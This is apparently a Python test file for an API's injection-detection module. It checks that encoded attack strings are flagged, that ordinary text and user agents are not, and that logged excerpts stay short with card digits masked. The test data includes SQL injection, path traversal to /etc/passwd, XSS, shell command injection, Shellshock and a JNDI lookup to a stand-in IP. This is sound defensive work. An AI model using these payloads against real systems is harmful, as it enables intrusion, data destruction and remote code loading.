"""Signs of an attack: what is found, what is never taken for one, and how little is kept of it."""

import base64
from datetime import UTC
from urllib.parse import quote, quote_plus, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.abuse import injection
from api.abuse.injection import Sign

PATH = b"/api/v1/transactions"
ATTACKS = [
    ("sql", "' OR '1'='1"),
    ("sql", "w-1' or 1=1"),
    ("sql", "1 UNION ALL SELECT key_hash FROM api_keys"),
    ("sql", "1/**/union/**/select 2"),
    ("sql", "w'; DROP TABLE transactions"),
    ("sql", "1 AND pg_sleep(5)"),
    ("sql", "admin'--"),
    ("traversal", "../../etc/passwd"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("traversal", "file\x00.csv"),
    ("script", "<script>alert(1)</script>"),
    ("script", "<img src=x onerror=alert(1)>"),
    ("script", "javascript:alert(1)"),
    ("lookup", "${jndi:ldap://198.51.100.7/a}"),
    ("lookup", "<%= 7 * 7 %>"),
    ("shell", "w; cat /etc/hosts"),
    ("shell", "$(whoami)"),
    ("line-break", "w\r\nSet-Cookie: a=b"),
    ("line-break", 'w\n{"level": "info"}'),
]


def find(path: bytes = PATH, query: str = "", **headers: str) -> Sign | None:
    pairs = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
    return injection.in_request(path, query.encode(), pairs)


@pytest.mark.parametrize(("pattern", "text"), ATTACKS)
def test_an_attack_is_found_in_path_and_query_however_it_is_encoded(pattern: str, text: str) -> None:
    for query in (quote(text), quote_plus(text), quote(quote(text))):
        sign = find(query=f"wallet_id={query}")
        assert sign is not None
        assert (sign.pattern, sign.place, sign.attack) == (pattern, "query", True)
    for path in (quote(text), quote(quote(text))):
        sign = find(path=PATH + b"/" + path.encode())
        assert sign is not None
        assert (sign.pattern, sign.place, sign.attack) == (pattern, "path", True)


@pytest.mark.parametrize(
    "path", [b"/../../etc/passwd", b"/api/v1/../../etc/shadow", b"/a/%2e%2e/%2e%2e/b", b"/..%5c..%5cb"]
)
def test_a_path_that_climbs_is_found(path: bytes) -> None:
    sign = find(path=path)
    assert sign is not None
    assert (sign.pattern, sign.place) == ("traversal", "path")


def test_headers_that_loggers_repeat_are_looked_at_and_secrets_are_not() -> None:
    sign = find(user_agent="${jndi:ldap://198.51.100.7/a}")
    assert sign is not None
    assert (sign.pattern, sign.place) == ("lookup", "header user-agent")
    assert find(user_agent="() { :; }; /bin/true") is not None
    for name in ("authorization", "idempotency_key", "cookie"):
        assert find(PATH, "", **{name: "' or 1=1 --"}) is None


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36",
        "Mozilla/5.0 (compatible; curl; +https://wallet.example/bot)",
        "python-httpx/0.28.1",
        "okhttp/4.12.0",
        "Wallet/7.1 (com.example.wallet; build:3; iOS 18.0.0) Alamofire/5.9.1",
    ],
)
def test_programs_that_name_themselves_are_no_attack(agent: str) -> None:
    assert find(user_agent=agent, referer="https://wallet.example/pay?to=o'brien&and=more") is None


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien and Sons",
        "a=b",
        "50% off; see you",
        "rock & roll",
        "C:\\temp",
        "R120.50 (fee)",
        "or",
        "select one",
        "...",
    ],
)
def test_what_people_write_is_no_attack(text: str) -> None:
    assert find(query=urlencode({"wallet_id": text})) is None


@pytest.mark.parametrize("text", ["{{wallet_id}}", "${walletId}"])
def test_a_placeholder_that_was_not_filled_in_is_told_and_not_held_against_anybody(text: str) -> None:
    sign = find(query=urlencode({"wallet_id": text}))
    assert sign is not None
    assert (sign.pattern, sign.attack) == ("template", False)


IDS = st.from_regex(r"[A-Za-z0-9._@+-]{1,64}", fullmatch=True).filter(lambda text: text not in ("..", "."))


@given(IDS, st.datetimes(timezones=st.just(UTC)), st.binary(max_size=100), st.uuids())
def test_no_ordinary_request_is_ever_suspected(wallet: str, moment: object, cursor: bytes, row: object) -> None:
    query = {"wallet_id": wallet, "from": moment.isoformat(), "cursor": base64.urlsafe_b64encode(cursor).decode()}  # type: ignore[attr-defined]  # a datetime
    assert find(query=urlencode(query)) is None
    assert find(path=PATH + f"/{row}/status".encode()) is None


@given(st.text(max_size=5000))
def test_any_text_is_gone_through_and_little_of_it_is_kept(text: str) -> None:
    sign = injection.in_text(f"../{text}", "field name")
    assert sign is not None
    assert len(sign.excerpt) <= 64
    assert sign.excerpt.isascii()
    assert sign.excerpt.isprintable()


def test_digits_are_not_kept() -> None:
    sign = find(query=quote("w' or 5412345678901234=5"))
    assert sign is not None
    assert sign.excerpt == "' or ################="


@given(st.binary(max_size=4000), st.binary(max_size=4000))
def test_whatever_comes_over_the_wire_can_be_looked_at(path: bytes, query: bytes) -> None:
    injection.in_request(path, query, [(b"user-agent", path)])
